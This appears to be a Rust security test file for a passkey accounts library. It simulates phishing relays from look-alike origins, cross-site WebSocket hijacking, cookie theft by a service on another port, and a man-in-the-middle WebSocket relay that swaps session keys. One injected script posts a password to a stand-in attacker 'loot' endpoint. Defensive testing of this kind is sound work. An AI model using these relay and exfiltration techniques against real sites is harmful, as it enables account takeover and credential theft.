//! Pages that are not the site's, and whoever sits between the two.

use std::net::Ipv4Addr;

use futures_util::{SinkExt, StreamExt};
use passkey_accounts::{
    defence::{Defence, is_up, without},
    protocol::gateway::{ClientMessage, ServerMessage},
};
use passkey_accounts_tests::{
    Page as SoftwarePage, PageKey,
    chromium::{Chromium, Page},
    shop::{Carried, Person, Shop},
};
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio_tungstenite::{
    accept_hdr_async, connect_async,
    tungstenite::{
        Message,
        client::IntoClientRequest,
        handshake::server::{Request, Response},
    },
};

use super::{
    ADA, Outcome, THEFT, acted, attack, fell, held, is_ours,
    mallory::{Mallory, Victim, give, ready},
};

#[tokio::test]
async fn a_look_alike_asks_for_what_the_site_asks_for() {
    let browser = Chromium::launch().await.unwrap();
    attack("lookAlike", async |build| {
        let shop = Shop::open(build).await;
        phish(&browser, &shop, |mallory| mallory.origin(&shop.host.replace("shop", "sh0p"))).await
    })
    .await;
}

#[tokio::test]
async fn a_sibling_of_the_site_asks_for_what_the_site_asks_for() {
    let browser = Chromium::launch().await.unwrap();
    attack("sibling", async |build| {
        let shop = Shop::open(build).await;
        phish(&browser, &shop, |mallory| mallory.origin(&format!("blog.{}", shop.host))).await
    })
    .await;
}

#[tokio::test]
async fn another_port_of_the_host_asks_for_what_the_site_asks_for() {
    let browser = Chromium::launch().await.unwrap();
    attack("otherPort", async |build| {
        let shop = Shop::open(build).await;
        phish(&browser, &shop, |mallory| mallory.origin(&shop.host)).await
    })
    .await;
}

/// Relays a sign-in live: the attacker's connection to the shop asks, the person's browser answers on a page of the
/// attacker's, and the answer is handed in on the attacker's connection, which names any origin it likes.
async fn phish(browser: &Chromium, shop: &Shop, origin: impl Fn(&Mallory) -> String) -> Outcome {
    let victim = Victim::sign_up(browser, shop).await;
    let credentials = victim.credentials().await;
    let mut mallory = Mallory::start("<title>Shop</title><form><input id=password></form>", "").await;
    let page = browser.open(&origin(&mallory)).await.unwrap();
    give(&page, &credentials).await;
    if !shop.build.has_passkeys() {
        let typed = format!(
            "fetch('{}/loot', {{ method: 'POST', mode: 'no-cors', body: JSON.stringify({{ password: 'sunshine' }}) }}).then(() => 0)",
            mallory.origin("mallory.localhost")
        );
        page.evaluate(&typed).await.unwrap();
        let loot = mallory.loot().await;
        let given = json!({ "email": ADA, "password": loot["password"] });
        let answer = shop.post("/sign-in", &given).await;
        shop.send(&shop.carrying(&shop.carried(&answer), "/act", THEFT)).await;
        return acted(shop, &victim.name, "the password was entered", answer.status.to_string());
    }
    let (stolen, said) = if is_ours(shop.build) {
        let mut thief = shop.connect_page().await;
        let ceremony = thief.begin_sign_in(ADA).await;
        let credential = match ask(&page, &serde_json::from_str(&ceremony.public_key.0).unwrap()).await {
            Ok(credential) => credential,
            Err(refused) => return held(refused),
        };
        match thief.finish(&ceremony, credential.to_string()).await {
            ServerMessage::SignedIn(signed_in) => {
                (Carried::Page(Box::new(thief), signed_in.session), "signed in".to_owned())
            }
            ServerMessage::Error(failure) => (Carried::Nothing, failure.code),
            other => panic!("{other:?}"),
        }
    } else {
        let asked = shop.begin(ADA).await;
        let credential = match ask(&page, &asked["publicKey"]).await {
            Ok(credential) => credential,
            Err(refused) => return held(refused),
        };
        let answer = json!({ "email": ADA, "ceremony": asked["ceremony"], "credential": credential });
        let answer = shop.post("/passkey/get", &answer).await;
        (shop.carried(&answer), answer.status.to_string())
    };
    shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
    acted(shop, &victim.name, "the passkey's answer was relayed", said)
}

/// Has a page ask the browser for a passkey.
async fn ask(page: &Page, options: &Value) -> Result<Value, String> {
    let script = format!(
        "navigator.credentials.get({{ publicKey: PublicKeyCredential.parseRequestOptionsFromJSON({options}) }})
            .then((credential) => ({{ credential: credential.toJSON() }}), ({{ name }}) => ({{ name }}))"
    );
    let answer = page.evaluate(&script).await.unwrap();
    match answer["name"].as_str() {
        Some(name) => Err(format!("the browser: {name}")),
        None => Ok(answer["credential"].clone()),
    }
}

#[tokio::test]
async fn a_page_of_another_site_opens_the_browser_socket() {
    let browser = Chromium::launch().await.unwrap();
    attack("foreignSocket", async |build| {
        let shop = Shop::open(build).await;
        hijack(&browser, &shop, |mallory| mallory.origin("mallory.localhost")).await
    })
    .await;
}

#[tokio::test]
async fn a_sibling_of_the_site_opens_the_browser_socket() {
    let browser = Chromium::launch().await.unwrap();
    attack("siblingSocket", async |build| {
        let shop = Shop::open(build).await;
        hijack(&browser, &shop, |mallory| mallory.origin(&format!("blog.{}", shop.host))).await
    })
    .await;
}

/// A page in the browser of somebody who is signed in opens the site's socket, and acts over it: the browser adds the cookies
/// to the handshake that it adds to any request.
async fn hijack(browser: &Chromium, shop: &Shop, origin: impl Fn(&Mallory) -> String) -> Outcome {
    let victim = Victim::sign_up(browser, shop).await;
    let mallory = Mallory::start("", "").await;
    let page = browser.open(&origin(&mallory)).await.unwrap();
    let (address, subprotocol) = match &shop.auth {
        Some(auth) => (format!("{}?app={}", auth.gateway_url(), auth.app_id), "'passkey-accounts.v1'"),
        None => (format!("ws://{}:{}/live", shop.host, shop.address.port()), "[]"),
    };
    let script = format!(
        "new Promise((resolve) => {{
            const socket = new WebSocket('{address}', {subprotocol});
            socket.addEventListener('open', () => {{ socket.send('{THEFT}'); socket.send('{THEFT}') }});
            socket.addEventListener('message', ({{ data }}) => resolve(data));
            socket.addEventListener('close', () => resolve('closed'));
        }})"
    );
    let said = page.evaluate(&script).await.unwrap();
    let said = said.as_str().unwrap();
    if is_ours(shop.build) && said != "closed" {
        return fell("the server greets it");
    }
    acted(shop, &victim.name, "the handshake carried the cookie", said)
}

#[tokio::test]
async fn another_service_on_the_same_host_is_sent_what_the_site_is_sent() {
    let browser = Chromium::launch().await.unwrap();
    attack("neighbour", async |build| {
        let shop = Shop::open(build).await;
        let victim = Victim::sign_up(&browser, &shop).await;
        let mut mallory = Mallory::start("", "").await;
        let page = browser.open(&mallory.origin(&shop.host)).await.unwrap();
        page.evaluate("fetch('/headers', { method: 'POST' }).then(() => 0)").await.unwrap();
        let headers = mallory.loot().await;
        let Some((_, token)) = headers["cookie"].as_str().and_then(|cookie| cookie.split_once('=')) else {
            return held("the request says nothing of who asks");
        };
        shop.send(&shop.carrying(&Carried::Token(token.to_owned()), "/act", THEFT)).await;
        acted(&shop, &victim.name, "cookies do not tell ports apart", "of no use")
    })
    .await;
}

#[tokio::test]
async fn somebody_inside_the_encryption_changes_what_is_sent() {
    let browser = Chromium::launch().await.unwrap();
    attack("middlebox", async |build| {
        // So that the page may connect to the middlebox at all.
        let _down = without(Defence::ContentSecurityPolicy);
        let shop = Shop::open(build).await;
        if !is_ours(build) {
            // What passes by names the session.
            let ada = Person::sign_up(&shop, ADA).await;
            let mut seen = ada.request("buy one");
            seen.body = THEFT.into();
            let answer = shop.send(&seen).await;
            return acted(&shop, &ada.name(), "it reads what carries the session", answer.status.to_string());
        }
        let victim = Victim::sign_up(&browser, &shop).await;
        let thief = PageKey::make();
        let address = swap_keys(&shop, &thief).await;
        if is_up(Defence::ChallengeCoversKey) {
            let tab = browser.open(&shop.origin).await.unwrap();
            ready(&tab).await;
            give(&tab, &victim.credentials().await).await;
            let script = format!(
                "(async () => {{
                    shop.client.close();
                    const {{ connect }} = await import('/sdk/index.js');
                    const client = await connect({{ app: '{}', url: '{address}', persistence: 'page' }});
                    return client.signIn({{ email: '{ADA}' }}).then(() => 'signed in', ({{ code }}) => code);
                }})()",
                shop.auth().app_id
            );
            let said = tab.evaluate(&script).await.unwrap();
            return if said == "signed in" {
                fell("the session is the attacker's")
            } else {
                held(said.as_str().unwrap())
            };
        }
        // A page that signs what it is given, as one without our module would.
        let credentials = victim.credentials().await;
        let page = browser.open(&shop.origin).await.unwrap();
        give(&page, &credentials).await;
        let mut through =
            SoftwarePage::connect_from(&address, shop.auth().app_id, &shop.origin).await.unwrap();
        let ceremony = through.begin_sign_in(ADA).await;
        let credential = ask(&page, &serde_json::from_str(&ceremony.public_key.0).unwrap()).await.unwrap();
        let said = through.finish(&ceremony, credential.to_string()).await;
        let ServerMessage::SignedIn(signed_in) = said else { return held(format!("{said:?}")) };
        through.key = thief;
        let stolen = Carried::Page(Box::new(through), signed_in.session);
        let answer = shop.send(&shop.carrying(&stolen, "/act", THEFT)).await;
        acted(&shop, &victim.name, "the session is the attacker's", answer.outcome())
    })
    .await;
}

/// A middlebox before the browser socket that puts its own session key into every sign-in.
async fn swap_keys(shop: &Shop, own: &PageKey) -> String {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let address = format!("ws://localhost:{}/v1/gateway", listener.local_addr().unwrap().port());
    let (gateway, origin, key) = (shop.auth().gateway_url(), shop.origin.clone(), own.public());
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let mut query = String::new();
            #[expect(clippy::result_large_err, reason = "the type is the library's")]
            let greet = |request: &Request, mut response: Response| {
                request.uri().query().unwrap_or_default().clone_into(&mut query);
                response
                    .headers_mut()
                    .insert("sec-websocket-protocol", "passkey-accounts.v1".parse().unwrap());
                Ok(response)
            };
            let Ok(mut below) = accept_hdr_async(stream, greet).await else { continue };
            let mut request = format!("{gateway}?{query}").into_client_request().unwrap();
            request.headers_mut().insert("origin", origin.parse().unwrap());
            request.headers_mut().insert("sec-websocket-protocol", "passkey-accounts.v1".parse().unwrap());
            let (mut above, _) = connect_async(request).await.unwrap();
            let key = key.clone();
            tokio::spawn(async move {
                loop {
                    let sent = tokio::select! {
                        up = below.next() => match up {
                            Some(Ok(Message::Text(text))) => {
                                let text = match ClientMessage::decode(&text) {
                                    (id, Ok(ClientMessage::SignInBegin(mut begin))) => {
                                        begin.session_key = key.clone();
                                        ClientMessage::SignInBegin(begin).encode(id)
                                    }
                                    _ => text.to_string(),
                                };
                                above.send(Message::text(text)).await
                            }
                            Some(Ok(other)) => above.send(other).await,
                            _ => return,
                        },
                        down = above.next() => match down {
                            Some(Ok(message)) => below.send(message).await,
                            _ => return,
                        },
                    };
                    if sent.is_err() {
                        return;
                    }
                }
            });
        }
    });
    address
}
